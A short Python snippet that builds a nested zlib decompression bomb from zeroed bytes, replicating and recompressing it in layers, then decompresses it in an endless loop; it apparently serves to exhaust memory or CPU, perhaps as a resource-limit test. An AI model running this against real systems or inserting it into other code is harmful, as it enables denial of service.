import zlib
data = zlib.compress(bytes(10**7), 9)
for _ in range(3): data = zlib.compress(data * 50, 9)
while True: data = zlib.decompress(data)
